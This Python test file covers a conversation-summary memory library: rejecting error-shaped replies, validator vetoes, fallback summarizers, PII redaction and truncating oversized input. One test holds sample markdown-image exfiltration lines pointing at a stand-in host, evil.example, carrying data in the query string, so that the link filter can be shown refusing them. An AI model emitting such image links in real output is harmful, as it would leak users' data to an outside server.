"""What is never committed as a summary: errors, echoes, foreign links; and the app's hooks."""

from __future__ import annotations

from typing import Any

import httpx
import openai
import pytest
import respx

from summem import AsyncMemory, FallbackSummarizer, LLMSummarizer, Memory, SummarizationReducer
from summem.errors import InvalidSummaryError, SummarizationError
from summem.summarizers.checks import error_shape, foreign_links
from summem.summarizers.extractive import ExtractiveSummarizer
from summem.summarizers.hooks import redact_pii
from tests.fakes.counters import WordCounter
from tests.fakes.replies import openai_completion
from tests.fakes.summarizers import FakeSummarizer, offline_or_none

ERRORS = [
    "Error generating summary: 429 Too Many Requests",
    "error: rate limit exceeded, retry in 20s",
    "Internal Server Error",
    "HTTP 503 Service Unavailable",
    '{"error": {"message": "upstream timeout", "code": 504}}',
    "<!DOCTYPE html><html><body>502 Bad Gateway</body></html>",
    'Traceback (most recent call last):\n  File "x.py", line 1',
    "I'm sorry, but I can't help with summarizing this conversation.",
    "Status code: 500. Please try again later.",
]
SUMMARIES = [
    "- The user reported an error: order BW-1 failed with HTTP 503 on Monday.",
    "The user (Ada) asked about a 429 rate limit in her app; the assistant suggested backoff.",
    "- Refund of 37.50 EUR promised (reference RF-22907).",
]


@pytest.mark.parametrize("text", ERRORS)
def test_error_shaped_replies_are_recognised(text: str) -> None:
    assert error_shape(text) is not None


@pytest.mark.parametrize("text", SUMMARIES)
def test_summaries_that_mention_errors_are_not(text: str) -> None:
    assert error_shape(text) is None


def reducer(summarizer: Any, **kw: Any) -> SummarizationReducer:
    return SummarizationReducer(
        summarizer,
        threshold_tokens=60,
        target_tokens=35,
        summary_max_tokens=20,
        token_counter=WordCounter(),
        **kw,
    )


def fill(memory: Memory, n: int = 12, text: str = "words about order BW-1 and more words") -> None:
    for i in range(n):
        memory.add({"role": "user" if i % 2 == 0 else "assistant", "content": f"{text} {i}"})


@respx.mock
@pytest.mark.parametrize("text", ERRORS[:4])
def test_an_error_in_a_200_is_never_committed_also_through_a_fallback(text: str) -> None:
    respx.post("https://api.openai.com/v1/chat/completions").mock(
        return_value=httpx.Response(200, json=openai_completion(text))
    )
    llm = LLMSummarizer("gpt-4o-mini", client=openai.OpenAI(api_key="sk-test"))
    alone = Memory("e", reducer=reducer(llm, fail_on_error=False))
    fill(alone)
    assert offline_or_none(alone.summary, text)  # the reply is never committed
    assert isinstance(alone.last_error, InvalidSummaryError)
    chained = Memory("c", reducer=reducer(FallbackSummarizer([llm, ExtractiveSummarizer()])))
    fill(chained)
    assert chained.summary is not None
    assert chained.summary.summary_info is not None
    assert chained.summary.summary_info.summarizer == "extractive"
    assert text not in chained.summary.text


def test_markdown_images_and_foreign_links_are_refused_by_default() -> None:
    sources = ["see https://shop.example/order/1 for details"]
    assert foreign_links("Order: [link](https://shop.example/order/1)", sources) == []
    assert foreign_links("![x](https://evil.example/?d=secret)", sources) == [
        "image https://evil.example/?d=secret"
    ]
    assert foreign_links("[here](http://evil.example/x)", sources) == ["link http://evil.example/x"]
    leaky = FakeSummarizer(reply="Facts. ![x](https://evil.example/p?data=BW-1)")
    memory = Memory("l", reducer=reducer(leaky, fail_on_error=False))
    fill(memory)
    assert offline_or_none(memory.summary, "evil.example")
    assert "markdown images" in str(memory.last_error)
    allowed = Memory("a", reducer=reducer(leaky, allow_foreign_links=True))
    fill(allowed)
    assert allowed.summary is not None


class Vetoes:
    def __init__(self) -> None:
        self.seen: list[str] = []

    def validate(self, summary: str, request: Any) -> str | None:
        self.seen.append(summary)
        return "mentions a competitor" if "Acme" in summary else None


class AsyncOnly:
    def __init__(self) -> None:
        self.calls = 0

    async def avalidate(self, summary: str, request: Any) -> str | None:
        self.calls += 1
        return "async veto"


def test_a_validator_vetoes_before_anything_is_committed() -> None:
    vetoes = Vetoes()
    memory = Memory(
        "v",
        reducer=reducer(
            FakeSummarizer(reply="Acme is cheaper"), validators=[vetoes], fail_on_error=False
        ),
    )
    fill(memory)
    assert offline_or_none(memory.summary, "Acme is cheaper") and vetoes.seen
    assert "rejected by a validator: mentions a competitor" in str(memory.last_error)
    ok = Memory(
        "ok",
        reducer=reducer(FakeSummarizer(reply="fine"), validators=[Vetoes(), lambda s, r: None]),
    )
    fill(ok)
    assert ok.summary is not None


def test_a_validator_vetoes_a_fallback_step_and_the_next_one_runs() -> None:
    chain = FallbackSummarizer([FakeSummarizer(reply="Acme is cheaper"), ExtractiveSummarizer()])
    memory = Memory("f", reducer=reducer(chain, validators=[Vetoes()]))
    fill(memory)
    info = memory.summary.summary_info if memory.summary else None
    assert info is not None and info.summarizer == "extractive"
    assert "vetted" not in info.extra


async def test_an_async_validator_runs_in_async_memory_and_is_refused_in_sync() -> None:
    only = AsyncOnly()
    memory = AsyncMemory(
        "av", reducer=reducer(FakeSummarizer(reply="x y"), validators=[only], fail_on_error=False)
    )
    for i in range(12):
        await memory.add({"role": "user", "content": f"words about order BW-1 and more words {i}"})
    assert only.calls >= 1 and memory.summary is None
    assert "async veto" in str(memory.last_error)
    await memory.close()
    sync = Memory("sv", reducer=reducer(FakeSummarizer(reply="x y"), validators=[AsyncOnly()]))
    with pytest.raises(SummarizationError, match="async only"):
        fill(sync)


def test_the_redactor_masks_what_summarizers_read_and_never_the_history() -> None:
    seen = FakeSummarizer(reply="summary")
    memory = Memory("r", reducer=reducer(seen, redactor=redact_pii))
    text = "card 4111 1111 1111 1111 mail ada@example.com phone +44 20 7946 0958"
    fill(memory, text=text)
    read = " ".join(m.text for r in seen.requests for m in r.messages)
    assert "4111" not in read and "ada@example.com" not in read and "7946" not in read
    assert "[card]" in read and "[email]" in read and "[phone]" in read
    assert all(text in m["content"] for m in memory.history())  # stored as said


def test_redact_pii_keeps_what_is_not_pii() -> None:
    assert redact_pii("order 1234 5678 costs 37.50 on 2026-03-21") == (
        "order 1234 5678 costs 37.50 on 2026-03-21"
    )
    assert (
        redact_pii("card 4111-1111-1111-1112 (not Luhn)") == "card 4111-1111-1111-1112 (not Luhn)"
    )
    assert redact_pii("4111111111111111") == "[card]"


@respx.mock
def test_a_huge_message_never_reaches_the_model_whole() -> None:
    route = respx.post("https://api.openai.com/v1/chat/completions").mock(
        return_value=httpx.Response(200, json=openai_completion("The user pasted a log."))
    )
    llm = LLMSummarizer("gpt-4o-mini", client=openai.OpenAI(api_key="sk-test"))
    memory = Memory(
        "big",
        reducer=SummarizationReducer(
            llm, threshold_tokens=4000, target_tokens=3000, summary_max_tokens=200
        ),
    )
    memory.add({"role": "user", "content": "log: " + "x " * 5_000_000})  # 10 MB
    memory.add({"role": "assistant", "content": "thanks"})
    memory.add({"role": "user", "content": "and now?"})
    assert route.call_count >= 1
    assert max(len(c.request.content) for c in route.calls) < 100_000
